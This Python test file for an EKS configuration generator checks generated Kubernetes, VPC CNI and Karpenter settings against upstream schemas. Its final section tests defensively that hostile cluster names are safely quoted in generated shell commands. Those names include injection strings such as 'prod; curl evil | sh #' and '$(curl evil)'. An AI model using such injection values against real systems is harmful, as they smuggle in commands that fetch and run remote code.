"""Generated configuration against its upstream schemas, and shell commands against hostile names.

The upstream files (CRDs, the EKS add-on's configuration schema, the VPC CNI README, Karpenter's
Helm values) live in ``reference/upstream/`` beside the project; the tests that read them skip
when it is absent. The validators are in :mod:`tests.conformance`; the first tests prove that they catch
what they claim to, the rest run them over the configuration of every example cluster and of
generated specs.
"""

from __future__ import annotations

import copy
import json
import shlex

import pydantic
import pytest
from hypothesis import HealthCheck, given, settings

from eksplan.config import Artifact, generate
from eksplan.engine import evaluate
from eksplan.spec import ClusterSpec, load_fleet

from . import conformance as c
from .conftest import ROOT
from .rule_cases import custom_networking, group, ipv6, sgp, spec as base_spec
from .strategies import cluster_specs

#: eksplan's own summaries: applied to nothing, so no upstream schema to meet.
REPORTS = frozenset({"max-pods"})
EXAMPLES = ["analytics-ipv6", "claims-sgp", "dev-sandbox", "payments-prod", "retail-constrained", "telco-upf"]


@pytest.fixture(scope="session")
def upstream(reference_dir):
    folder = reference_dir / "upstream"
    if not folder.is_dir():
        pytest.skip(f"upstream schemas not present ({reference_dir.name}/upstream/ beside the project)")
    return c.load_upstream(folder)


# -- the upstream files as read ----------------------------------------------------------------


def test_crds_found(upstream):
    """Every CRD of the folder is found by its group and kind."""
    assert sorted(upstream.crds) == [
        ("crd.k8s.amazonaws.com", "ENIConfig"), ("k8s.cni.cncf.io", "NetworkAttachmentDefinition"),
        ("karpenter.k8s.aws", "EC2NodeClass"), ("karpenter.sh", "NodePool"), ("node.eks.aws", "NodeConfig"),
        ("vpcresources.k8s.aws", "SecurityGroupPolicy")]


@pytest.mark.parametrize("name, expected", [
    ("WARM_IP_TARGET", c.Variable("WARM_IP_TARGET", "integer")),  # "Type: Integer", no version
    ("ENABLE_PREFIX_DELEGATION", c.Variable("ENABLE_PREFIX_DELEGATION", "boolean", (1, 9, 0))),
    ("ENABLE_SUBNET_DISCOVERY", c.Variable("ENABLE_SUBNET_DISCOVERY", "boolean", (1, 18, 0))),
    ("POD_SECURITY_GROUP_ENFORCING_MODE",
     c.Variable("POD_SECURITY_GROUP_ENFORCING_MODE", "string", (1, 11, 0), values=("strict", "standard"))),
    ("AWS_VPC_K8S_CNI_LOGLEVEL",  # "(Not case sensitive)"
     c.Variable("AWS_VPC_K8S_CNI_LOGLEVEL", "string", values=("DEBUG", "INFO", "WARN", "ERROR", "FATAL"),
                ignore_case=True)),
    ("AWS_VPC_K8S_CNI_LOG_FILE", c.Variable("AWS_VPC_K8S_CNI_LOG_FILE", "string")),  # "or a file path": open
    ("ENABLE_NFTABLES", c.Variable("ENABLE_NFTABLES", "boolean", (1, 12, 1), (1, 13, 2))),
    ("AWS_VPC_K8S_CNI_CONFIGURE_RPFILTER", c.Variable("AWS_VPC_K8S_CNI_CONFIGURE_RPFILTER", "boolean",
                                                       deprecated=(1, 12, 1))),
])
def test_readme_variables(upstream, name, expected):
    """The README's variable sections read as name, type, version added or deprecated, valid values."""
    assert upstream.variables[name] == expected


def test_readme_variable_count(upstream):
    """All 50 variable headings of the README's "CNI Configuration Variables" section are read."""
    assert len(upstream.variables) == 50


def test_readme_unknown_type_is_an_error():
    """A variable whose Type line is not one of the README's four types stops the parser."""
    text = "## CNI Configuration Variables\n\n#### `X_Y`\n\nType: Float\n\n## Next\n"
    with pytest.raises(ValueError, match=r"^X_Y: no known 'Type:' line \('Float'\)$"):
        c.parse_readme_variables(text)


# -- Kubernetes objects against their CRDs ------------------------------------------------------

ENICONFIG = {"apiVersion": "crd.k8s.amazonaws.com/v1alpha1", "kind": "ENIConfig", "metadata": {"name": "us-east-1a"},
             "spec": {"subnet": "subnet-0a", "securityGroups": ["sg-1"]}}
NODECLASS = {"apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass", "metadata": {"name": "default"},
             "spec": {"role": "KarpenterNodeRole", "amiSelectorTerms": [{"alias": "al2023@latest"}],
                      "subnetSelectorTerms": [{"tags": {"karpenter.sh/discovery": "c"}}],
                      "securityGroupSelectorTerms": [{"tags": {"karpenter.sh/discovery": "c"}}],
                      "kubelet": {"maxPods": 110}}}
NODECONFIG = {"apiVersion": "node.eks.aws/v1alpha1", "kind": "NodeConfig", "metadata": {"name": "ng"},
              "spec": {"cluster": {"name": "c", "apiServerEndpoint": "https://x", "certificateAuthority": "Y2E=",
                                   "cidr": "10.100.0.0/16"},
                       "kubelet": {"maxPodsExpression": "default_enis * (ips_per_eni - 1) + 2"}}}
SGP = {"apiVersion": "vpcresources.k8s.aws/v1beta1", "kind": "SecurityGroupPolicy",
       "metadata": {"name": "db", "namespace": "default"},
       "spec": {"podSelector": {"matchLabels": {"app": "db"}}, "securityGroups": {"groupIds": ["sg-1"]}}}
NODEPOOL_LIMITS = {"apiVersion": "karpenter.sh/v1", "kind": "NodePool", "metadata": {"name": "default"},
                   "spec": {"template": {"spec": {"nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass",
                                                                   "name": "default"},
                                                  "requirements": []}},
                            "limits": {"cpu": 1000, "memory": "1000Gi"}}}
NAD = {"apiVersion": "k8s.cni.cncf.io/v1", "kind": "NetworkAttachmentDefinition",
       "metadata": {"name": "ipvlan-eth1", "namespace": "default"},
       "spec": {"config": json.dumps({"cniVersion": "0.3.1", "type": "ipvlan", "master": "eth1", "mode": "l2",
                                      "ipam": {"type": "whereabouts", "range": "10.10.1.0/24"}})}}


def edit(obj: dict, path: str, value) -> dict:
    """A copy of ``obj`` with ``path`` (dotted) set to ``value``, or removed when ``value`` is ``...``."""
    out = copy.deepcopy(obj)
    *parents, leaf = path.split(".")
    target = out
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target[key]
    if value is ...:
        del target[leaf]
    else:
        target[leaf] = value
    return out


@pytest.mark.parametrize("obj", [ENICONFIG, NODECLASS, NODECONFIG, SGP, NODEPOOL_LIMITS, NAD],
                         ids=lambda o: o["kind"])
def test_good_objects_pass(upstream, obj):
    """A hand-written object of each kind, as its documentation shows it, has no violation."""
    assert c.check_object(obj, upstream.crds, "x") == []


@pytest.mark.parametrize("obj, expected", [
    (edit(ENICONFIG, "spec.subnets", "subnet-0a"), "x: spec.subnets: unknown field (did you mean 'subnet'?)"),
    (edit(ENICONFIG, "spec.subnet", ...), "x: spec.subnet: required field missing"),
    (edit(ENICONFIG, "spec.securityGroups", "sg-1"), "x: spec.securityGroups: 'sg-1' is not of type 'array'"),
    (edit(NODECLASS, "spec.kubelet.maxPods", "110"), "x: spec.kubelet.maxPods: '110' is not of type 'integer'"),
    (edit(NODECLASS, "spec.kubelet.maxPodsExpression", "1"), "x: spec.kubelet.maxPodsExpression: unknown field"),
    (edit(NODECLASS, "spec.amiSelectorTerms", ...), "x: spec.amiSelectorTerms: required field missing"),
    (edit(NODECONFIG, "spec.kubelet.maxPods", 58), "x: spec.kubelet.maxPods: unknown field"),
    (edit(SGP, "spec.securityGroups.groupIds", []), "x: spec.securityGroups.groupIds: [] should be non-empty"),
    (edit(NODEPOOL_LIMITS, "spec.limits.cpu", True), "x: spec.limits.cpu: True is not of type 'integer', 'string'"),
    (edit(NAD, "spec.config", {"type": "ipvlan"}), "x: spec.config: {'type': 'ipvlan'} is not of type 'string'"),
], ids=["enicfg-unknown", "enicfg-required", "enicfg-type", "nodeclass-type", "nodeclass-unknown",
        "nodeclass-required", "nodeconfig-unknown", "sgp-minItems", "nodepool-int-or-string", "nad-type"])
def test_bad_objects_rejected(upstream, obj, expected):
    """An unknown field, a missing required one or a wrong type is reported with its path."""
    assert c.check_object(obj, upstream.crds, "x") == [expected]


def test_eniconfig_root_keeps_unknown_fields(upstream):
    """The ENIConfig CRD preserves unknown fields at its root (only spec is strict), as upstream declares."""
    assert c.check_object(edit(ENICONFIG, "extra", 1), upstream.crds, "x") == []


def test_nodeconfig_kubelet_config_is_free_form(upstream):
    """nodeadm decodes kubelet.config values as raw JSON, so a number there is accepted.

    (The CRD types each value as an object; nodeadm reads NodeConfig itself, not through the API server.)
    """
    obj = edit(NODECONFIG, "spec.kubelet.config", {"maxPods": 58, "kubeReserved": {"cpu": "70m"}})
    assert c.check_object(obj, upstream.crds, "x") == []


def test_structural_conversion():
    """nullable admits null, int-or-string both, and an object with properties rejects unknown fields."""
    schema = c.structural({"type": "object", "properties": {
        "a": {"type": "string", "nullable": True, "enum": ["x"]},
        "b": {"x-kubernetes-int-or-string": True, "anyOf": [{"type": "integer"}, {"type": "string"}]},
        "c": {"type": "object", "x-kubernetes-preserve-unknown-fields": True, "properties": {"d": {"type": "string"}}},
        "e": {"type": "string", "x-kubernetes-validations": [{"rule": "self == 'never'"}]}}})
    assert schema == {"type": "object", "additionalProperties": False, "properties": {
        "a": {"type": ["string", "null"], "enum": ["x", None]},
        "b": {"type": ["integer", "string"]},
        "c": {"type": "object", "properties": {"d": {"type": "string"}}},
        "e": {"type": "string"}}}


@pytest.mark.parametrize("obj, expected", [
    ({**ENICONFIG, "apiVersion": "crd.k8s.amazonaws.com/v1"},
     "x: apiVersion: 'crd.k8s.amazonaws.com/v1' is not served by the ENIConfig CRD (versions: v1alpha1)"),
    ({**ENICONFIG, "kind": "ENIConfigs"},
     "x: no schema for ENIConfigs in crd.k8s.amazonaws.com/v1alpha1: no CRD of the upstream folder defines it"),
    (edit(ENICONFIG, "metadata.name", "Spot_Workers"),
     "x: metadata.name: 'Spot_Workers' is not a DNS-1123 subdomain (lower-case letters, digits, '-'; at most 253)"),
    (edit(ENICONFIG, "metadata", {}), "x: metadata.name: required field missing"),
    (edit(ENICONFIG, "metadata.labels", {"team": 7}), "x: metadata.labels['team']: 7 is not a string"),
    (edit(ENICONFIG, "metadata.annotations", {"a b": "x"}),
     "x: metadata.annotations['a b']: not a qualified name ([prefix/]name)"),
    (edit(ENICONFIG, "metadata.label", {}), "x: metadata.label: unknown field"),
], ids=["version", "kind", "name", "no-name", "label-value", "annotation-key", "metadata-field"])
def test_object_identity_and_metadata(upstream, obj, expected):
    """An unserved version, an unknown kind and metadata the API server refuses are reported."""
    assert c.check_object(obj, upstream.crds, "x") == [expected]


# -- Service and Ingress (no CRD: the API server's own rules) ------------------------------------

SERVICE = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web"},
           "spec": {"type": "LoadBalancer", "selector": {"app": "web"}, "ports": [{"port": 80, "targetPort": 8080}]}}
INGRESS = {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "web"},
           "spec": {"ingressClassName": "alb", "rules": [{"http": {"paths": [
               {"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "web", "port": {"number": 80}}}}]}}]}}


@pytest.mark.parametrize("obj", [SERVICE, INGRESS, edit(SERVICE, "spec", {"clusterIP": "None", "selector": {"app": "db"}}),
                                 edit(INGRESS, "spec", {"defaultBackend": {"service": {"name": "w", "port": {"name": "h"}}}})],
                         ids=["service", "ingress", "headless-service", "ingress-default-backend"])
def test_good_service_and_ingress(upstream, obj):
    """A Service with a port (or headless), an Ingress with a rule (or a default backend) pass."""
    assert c.check_object(obj, upstream.crds, "x") == []


@pytest.mark.parametrize("obj, expected", [
    (edit(SERVICE, "spec.ports", ...), "x: spec.ports: required: a LoadBalancer Service needs at least one port"),
    (edit(SERVICE, "spec.ports", [{"port": 0}]), "x: spec.ports[0].port: 0 must be an integer between 1 and 65535"),
    (edit(SERVICE, "spec.ports", [{"port": 80}, {"port": 443, "name": "https"}]),
     "x: spec.ports[0].name: required when a Service has more than one port"),
    (edit(SERVICE, "spec.type", "NLB"), "x: spec.type: 'NLB' is not one of ClusterIP, NodePort, LoadBalancer, ExternalName"),
    (edit(SERVICE, "spec.clusterIP", "None"), "x: spec.clusterIP: may not be 'None' for a LoadBalancer Service"),
    (edit(SERVICE, "spec.ipFamilyPolicy", "DualStack"),
     "x: spec.ipFamilyPolicy: 'DualStack' is not one of SingleStack, PreferDualStack, RequireDualStack"),
    (edit(SERVICE, "spec.loadBalancerScheme", "internet-facing"), "x: spec.loadBalancerScheme: unknown field"),
    (edit(SERVICE, "metadata.name", "web.example"),
     "x: metadata.name: 'web.example' is not a DNS-1035 label (lower-case letters, digits, '-'; at most 63)"),
    (edit(SERVICE, "metadata.annotations", {"service.beta.kubernetes.io/aws-load-balancer-healthcheck-port": 80}),
     "x: metadata.annotations['service.beta.kubernetes.io/aws-load-balancer-healthcheck-port']: 80 is not a string"),
    (edit(INGRESS, "spec.rules", ...), "x: spec: either defaultBackend or rules must be specified"),
    (edit(INGRESS, "spec.rules.0.http.paths.0.pathType", ...),
     "x: spec.rules[0].http.paths[0].pathType: None is not one of Exact, Prefix, ImplementationSpecific"),
    (edit(INGRESS, "spec.rules.0.http.paths.0.backend.service.port", {}),
     "x: spec.rules[0].http.paths[0].backend.service.port: exactly one of name or number is required"),
], ids=["no-ports", "port-0", "port-names", "type", "headless-lb", "ip-family-policy", "unknown", "service-name",
        "annotation-value", "ingress-empty", "path-type", "backend-port"])
def test_bad_service_and_ingress(upstream, obj, expected):
    """What the API server refuses in a Service or an Ingress is reported."""
    assert c.check_object(obj, upstream.crds, "x") == [expected]


@pytest.mark.parametrize("config, expected", [
    ({"cniVersion": "0.3.1", "type": "macvlan", "master": "eth1", "ipam": {"type": "whereabouts"}},
     ["x: spec.config.type: 'macvlan': EKS documents ipvlan or host-device for Multus interfaces "
      "(a macvlan pod's MAC address is not the ENI's, so EC2 does not deliver its frames)"]),
    ({"cniVersion": "0.3.1", "type": "ipvlan", "ipam": {"type": "host-local", "subnet": "10.10.0.0/16"}},
     ["x: spec.config.ipam.type: 'host-local' allocates on each node independently: every node hands out the "
      "same addresses of the range; use cluster-wide IPAM (e.g. whereabouts)"]),
    ({"type": "ipvlan"}, ["x: spec.config.cniVersion: required field missing"]),
    ({"cniVersion": "1.0.0", "plugins": [{"type": "host-device", "device": "eth1"}, {"mode": "x"}]},
     ["x: spec.config.plugins[1].type: required field missing"]),
    ("{not json", ["x: spec.config: not JSON (Expecting property name enclosed in double quotes at character 1)"]),
], ids=["macvlan", "host-local", "no-version", "plugin-type", "not-json"])
def test_network_attachment_config(config, expected):
    """The CNI configuration inside a NetworkAttachmentDefinition follows the CNI spec and AWS's Multus pattern."""
    obj = edit(NAD, "spec.config", config if isinstance(config, str) else json.dumps(config))
    assert c.check_network_attachment(obj, "x") == expected


def test_good_network_attachment():
    """ipvlan with cluster-wide IPAM passes."""
    assert c.check_network_attachment(NAD, "x") == []


# -- the add-on's configurationValues -----------------------------------------------------------


@pytest.mark.parametrize("config", [
    {"env": {"ENABLE_PREFIX_DELEGATION": "true", "WARM_PREFIX_TARGET": "1"}, "enableNetworkPolicy": "true",
     "livenessProbeTimeoutSeconds": 30, "init": {"env": {"DISABLE_TCP_EARLY_DEMUX": "true"}}},
    {"env": {"AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG": "true", "ENI_CONFIG_LABEL_DEF": "topology.kubernetes.io/zone"},
     "eniConfig": {"create": True, "region": "us-east-1", "subnets": {"us-east-1a": {"id": "subnet-0a"}}}},
], ids=["prefix-netpol-init", "eniconfig"])
def test_good_addon_configuration(upstream, config):
    """configurationValues as the add-on's schema describes them pass."""
    assert c.check_addon_configuration(config, upstream.addon_schema, upstream.variables, "x", "1.18.3") == []


@pytest.mark.parametrize("config, version, expected", [
    ({"env": {"ENABLE_IPv6": "true"}}, "1.18.3", ["x: env.ENABLE_IPv6: unknown field"]),
    ({"env": {"WARM_IP_TARGET": 5}}, "1.18.3",
     ["x: env.WARM_IP_TARGET: 5 is not of type 'string'",
      "x: env: WARM_IP_TARGET: 5 is not a string (environment values are strings)"]),
    ({"env": {"WARM_IP_TARGET": "five"}}, "1.18.3",
     ["x: env.WARM_IP_TARGET: 'five' is not a 'integer'", "x: env: WARM_IP_TARGET='five': the README types it Integer"]),
    ({"enableNetworkPolicy": True}, "1.18.3", ["x: enableNetworkPolicy: True is not of type 'string'"]),
    ({"env": {"ENABLE_SUBNET_DISCOVERY": "true"}}, "1.16.4",
     ["x: env.ENABLE_SUBNET_DISCOVERY: unknown field",
      "x: env: ENABLE_SUBNET_DISCOVERY: added in VPC CNI v1.18.0, the cluster runs 1.16.4"]),
    ({"init": {"env": {"ENABLE_PREFIX_DELEGATION": "true"}}}, "1.18.3", ["x: init.env.ENABLE_PREFIX_DELEGATION: unknown field"]),
    ({"tolerations": {}}, "1.18.3", ["x: tolerations: {} is not of type 'array'"]),
], ids=["ipv6", "int", "not-integer", "bool", "too-new", "init-env", "tolerations"])
def test_bad_addon_configuration(upstream, config, version, expected):
    """What update-addon would refuse (and what the README says the CNI cannot read) is reported."""
    assert c.check_addon_configuration(config, upstream.addon_schema, upstream.variables, "x", version) == expected


def test_addon_schema_knows_later_variables(upstream):
    """A variable the README dates after the schema's v1.15.1 is judged by the README when the CNI has it."""
    config = {"env": {"ENABLE_SUBNET_DISCOVERY": "true", "POD_MTU": "9001"}}
    assert c.check_addon_configuration(config, upstream.addon_schema, upstream.variables, "x", "1.18.3") == []


# -- aws-node variables -------------------------------------------------------------------------


@pytest.mark.parametrize("env, version, expected", [
    ({"WARM_IP_TARGT": "5"}, None, ["x: WARM_IP_TARGT: not an aws-node variable of the VPC CNI README "
                                    "(did you mean 'WARM_IP_TARGET'?)"]),
    ({"ENABLE_PREFIX_DELEGATION": "yes"}, None,
     ["x: ENABLE_PREFIX_DELEGATION='yes': the README types it Boolean as a String ('true' or 'false')"]),
    ({"WARM_PREFIX_TARGET": "1.5"}, None, ["x: WARM_PREFIX_TARGET='1.5': the README types it Integer"]),
    ({"POD_SECURITY_GROUP_ENFORCING_MODE": "Strict"}, None,
     ["x: POD_SECURITY_GROUP_ENFORCING_MODE='Strict': not one of the README's valid values (strict, standard)"]),
    ({"ENABLE_PREFIX_DELEGATION": "true"}, "1.8.0",
     ["x: ENABLE_PREFIX_DELEGATION: added in VPC CNI v1.9.0, the cluster runs 1.8.0"]),
    ({"ENABLE_NFTABLES": "true"}, "1.18.3",
     ["x: ENABLE_NFTABLES: deprecated since VPC CNI v1.13.2 (the cluster runs 1.18.3)"]),
], ids=["unknown", "boolean", "integer", "valid-values", "too-new", "deprecated"])
def test_bad_aws_node_env(upstream, env, version, expected):
    """An unknown variable, a value of the wrong type or one the cluster's CNI lacks is reported."""
    assert c.check_aws_node_env(env, upstream.variables, "x", version) == expected


def test_good_aws_node_env(upstream):
    """Variables of every README type, with valid values, pass (log levels in any case)."""
    env = {"ENABLE_PREFIX_DELEGATION": "false", "WARM_IP_TARGET": "5", "ENI_CONFIG_LABEL_DEF": "topology.kubernetes.io/zone",
           "AWS_VPC_K8S_CNI_LOGLEVEL": "info", "AWS_VPC_K8S_CNI_RANDOMIZESNAT": "none"}
    assert c.check_aws_node_env(env, upstream.variables, "x", "1.18.3") == []


@pytest.mark.parametrize("argv, expected", [
    (["kubectl", "set", "env", "daemonset", "aws-node", "-n", "kube-system", "WARM_IP_TARGET=5", "WARM_ENI_TARGET-"], []),
    (["kubectl", "set", "env", "ds/aws-node", "--namespace=kube-system", "-c", "aws-node", "ENABLE_POD_ENI=true"], []),
    (["kubectl", "set", "env", "daemonset", "aws-node", "WARM_IP_TARGET=5"], ["x: namespace None, not 'kube-system'"]),
    (["kubectl", "set", "env", "daemonset", "aws-node", "-n", "kube-system", "-c", "ipamd", "WARM_IP_TARGET=5"],
     ["x: container 'ipamd' is not in the aws-node DaemonSet (aws-vpc-cni-init, aws-node, aws-eks-nodeagent)"]),
    (["kubectl", "set", "env", "deployment", "aws-node", "-n", "kube-system", "WARM_IP_TARGET=5"],
     ["x: targets 'deployment/aws-node', not daemonset/aws-node"]),
    (["kubectl", "set", "env", "daemonset", "aws-node", "-n", "kube-system", "WARM_ENI_TARGT-"],
     ["x: WARM_ENI_TARGT: not an aws-node variable of the VPC CNI README (did you mean 'WARM_ENI_TARGET'?)"]),
    (["kubectl", "set", "env", "--overwrite=false", "-e", "WARM_IP_TARGT=5", "daemonset/aws-node", "-n", "kube-system"],
     ["x: WARM_IP_TARGT: not an aws-node variable of the VPC CNI README (did you mean 'WARM_IP_TARGET'?)"]),
], ids=["good", "good-short", "namespace", "container", "target", "removal", "env-flag"])
def test_set_env(upstream, argv, expected):
    """kubectl set env targets aws-node in kube-system and sets or removes README variables."""
    assert c.check_set_env(argv, upstream.variables, upstream.aws_node, "x") == expected


# -- Karpenter Helm values ----------------------------------------------------------------------


@pytest.mark.parametrize("values, expected", [
    ({"settings": {"reservedENIs": "1"}}, []),
    ({"settings": {"reservedENIs": 1}}, ["x: settings.reservedENIs: 1 is a int; the chart's default '0' is a str"]),
    ({"settings": {"reservedEnis": "1"}},
     ["x: settings.reservedEnis: not a value of the chart (did you mean 'reservedENIs'?)"]),
    ({"reservedENIs": "1"}, ["x: reservedENIs: not a value of the chart"]),
], ids=["good", "type", "key", "level"])
def test_karpenter_helm_values(upstream, values, expected):
    """Karpenter Helm values exist in the chart's values.yaml with the default's type."""
    assert c.check_helm_values(values, upstream.karpenter_values, "x") == expected


# -- shell quoting ------------------------------------------------------------------------------


@pytest.mark.parametrize("line, words", [
    ("aws eks describe-cluster --name 'a b'", ["aws", "eks", "describe-cluster", "--name", "a b"]),
    ("echo a;b", ["echo", "a", ";", "b"]),
    ("echo a # b", ["echo", "a"]),
    ("echo a#b", ["echo", "a#b"]),
    ("echo 'it'\"'\"'s'", ["echo", "it's"]),
    ("echo \"x\\\"y\" ''", ["echo", 'x"y', ""]),
])
def test_shell_words(line, words):
    """The splitter reads quotes, operators and comments as a POSIX shell does."""
    assert [w.text for w in c.shell_words(line)] == words


@pytest.mark.parametrize("line, expected", [
    (f"aws eks describe-cluster --name {shlex.quote('x $(id)')}", []),
    ("aws eks describe-cluster --name \"x $(id)\"",
     ["x: 'x $(id)' is not one quoted argument of 'aws eks describe-cluster --name \"x $(id)\"' "
      "(the shell would run: ['aws', 'eks', 'describe-cluster', '--name', 'x $(id)'])"]),
    ("aws eks describe-cluster --name x $(id)",
     ["x: 'x $(id)' is not one quoted argument of 'aws eks describe-cluster --name x $(id)' "
      "(the shell would run: ['aws', 'eks', 'describe-cluster', '--name', 'x', '$', '(', 'id', ')'])"]),
    ("aws eks describe-cluster --name 'x $(id)",
     ["x: \"aws eks describe-cluster --name 'x $(id)\" does not parse as a shell command (unterminated ' quote)"]),
], ids=["single-quoted", "double-quoted", "bare", "unbalanced"])
def test_check_quoted(line, expected):
    """A value is safe only as one word with no expansion: single-quoted, not double-quoted or bare."""
    assert c.check_quoted(line, "x $(id)", "x") == expected


# -- the artifact walker ------------------------------------------------------------------------


def test_artifacts_dispatch(upstream):
    """Each document goes to its check; an unrecognised one and a missing configuration file are reported."""
    artifacts = [
        Artifact("update", "shell", "", [["aws", "eks", "update-addon", "--cluster-name", "c", "--addon-name", "vpc-cni",
                                          "--configuration-values", "file://missing.json"],
                                         ["aws", "eks", "create-addon", "--addon-name", "vpc-cni",
                                          "--configuration-values", json.dumps({"env": {"ENABLE_IPv4": "true"}})],
                                         ["kubectl", "set", "env", "daemonset", "aws-node", "-n", "kube-system", "X=1"]]),
        Artifact("objects", "yaml", "", [edit(ENICONFIG, "spec.x", 1), {"settings": {"reservedENIs": "1"}}]),
        Artifact("karpenter-values", "yaml", "", {"settings": {"reservedENI": "1"}}),
        Artifact("max-pods", "yaml", "", [{"group": "ng"}]),
        Artifact("user-data", "xml", "", "<settings/>"),
    ]
    assert c.check_artifacts(artifacts, upstream, reports=REPORTS) == [
        "user-data: its text does not parse as xml (unknown artifact kind 'xml')",
        "--configuration-values[0]: env.ENABLE_IPv4: unknown field",
        "--configuration-values file://missing.json: no json artifact of that name",
        "update[2]: X: not an aws-node variable of the VPC CNI README",
        "objects[0] ENIConfig 'us-east-1a': spec.x: unknown field",
        "objects[1]: neither a Kubernetes object, the add-on's configurationValues nor Helm values: "
        "no upstream schema to validate it against",
        "karpenter-values[0] Karpenter Helm values: settings.reservedENI: not a value of the chart "
        "(did you mean 'reservedENIs'?)",
    ]


# -- the generated configuration -----------------------------------------------------------------


def violations(cluster: ClusterSpec, upstream) -> list[str]:
    return c.check_artifacts(generate(evaluate(cluster)), upstream, cni_version=cluster.vpc_cni.version,
                             reports=REPORTS)


@pytest.fixture(scope="module")
def examples():
    return {loaded.name: loaded.spec for loaded in load_fleet([ROOT / "examples"]).clusters}


def test_every_example_is_checked(examples):
    """The parametrised list below names every example cluster."""
    assert sorted(examples) == EXAMPLES


@pytest.mark.parametrize("cluster", EXAMPLES)
def test_example_configuration_conforms(upstream, examples, cluster):
    """Every object generated for an example cluster validates against its upstream schema."""
    found = violations(examples[cluster], upstream)
    assert not found, f"{len(found)} violations:\n" + "\n".join(found)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=cluster_specs())
def test_generated_configuration_conforms(upstream, data):
    """Every object generated for any spec (launchers, IP modes, custom networking, SGP, IPv6, Multus) validates."""
    found = violations(ClusterSpec.model_validate(data), upstream)
    assert not found, f"{len(found)} violations:\n" + "\n".join(found)


# -- hostile cluster names ----------------------------------------------------------------------

#: Each holds ``evil``, so a line that carries any part of the name is found.
HOSTILE = ["prod; curl evil | sh #", "it's \"prod\" $(curl evil) `id`", "prod' ; curl evil #"]
#: Specs that bring out every decision and artifact that names the cluster.
VARIANTS = {
    "base": lambda name: base_spec(name=name),
    "sgp": lambda name: sgp(name=name),
    "ipv6": lambda name: ipv6(name=name),
    "custom-networking": lambda name: custom_networking(name=name),
    "karpenter-multus": lambda name: base_spec(**{"name": name, "node_groups": group(launcher="karpenter", pods_per_node=70),
                                                  "requirements.multus": {"version": "v4.2.0-thick", "plugin": "thick",
                                                                          "secondary_cidrs": ["10.10.0.0/16"]}}),
    "nodeadm": lambda name: base_spec(name=name, node_groups=group(launcher="nodeadm", custom_ami=True, pods_per_node=50)),
}


def report(found: dict) -> str:
    return f"{len(found)} unsafe:\n" + "\n".join(f"{message} ({variant})" for message, variant in found.items())


def hostile_clusters(name: str) -> dict:
    """The variants with ``name``; a spec that refuses the name cannot inject it (the error must say so)."""
    out = {}
    for variant, make in VARIANTS.items():
        try:
            out[variant] = ClusterSpec.model_validate(make(name))
        except pydantic.ValidationError as error:
            assert error.errors()[0]["loc"] == ("name",), error
    return out


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_in_shell_artifacts(name):
    """Shell artifacts render each argv so that the shell reads back exactly that argv, the name one inert word."""
    found, checked = {}, 0  # the same line of several variants is reported once
    clusters = hostile_clusters(name)
    for variant, cluster in clusters.items():
        for artifact in generate(evaluate(cluster)):
            if artifact.kind != "shell":
                continue
            lines = artifact.text.splitlines()
            for i, (line, command) in enumerate(zip(lines, artifact.content, strict=True)):
                argv = command["argv"] + [">", command["stdout"]] if isinstance(command, dict) else command
                where = f"{artifact.name}[{i}]"
                if shlex.split(line) != argv:
                    found.setdefault(f"{where}: {line!r} reads back as {shlex.split(line)}, not {argv}", variant)
                if "evil" in line:
                    checked += 1
                    for message in c.check_quoted(line, name, where):
                        found.setdefault(message, variant)
    assert checked or not clusters, "no shell artifact names the cluster: nothing was tested"
    assert not found, report(found)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_in_confirm_commands(name):
    """Each decision's confirm command holds the cluster name as one quoted argument, never as shell syntax."""
    found, checked = {}, 0  # the same command of several variants is reported once
    clusters = hostile_clusters(name)
    for variant, cluster in clusters.items():
        for decision in evaluate(cluster).decisions:
            for i, line in enumerate(decision.confirm):
                if "evil" in line:
                    checked += 1
                    for message in c.check_quoted(line, name, f"{decision.id}.confirm[{i}]"):
                        found.setdefault(message, variant)
    assert checked or not clusters, "no confirm command names the cluster: nothing was tested"
    assert not found, report(found)


def test_iam_policy_grammar():
    """The IAM policy validator accepts the VPC CNI's IPv6 policy and rejects malformed statements."""
    from eksplan.config.objects import CNI_IPV6_POLICY

    assert c.check_iam_policy(CNI_IPV6_POLICY, "policy") == []
    bad = {"Version": "2012-10-17", "Statement": [{"Effect": "allow", "Action": "AssignIpv6Addresses"}]}
    assert c.check_iam_policy(bad, "policy") == [
        "policy.Statement[0].Effect: 'allow' is not Allow or Deny",
        "policy.Statement[0].Action: 'AssignIpv6Addresses' is not a valid action",
        "policy.Statement[0]: needs exactly one of Resource and NotResource",
    ]
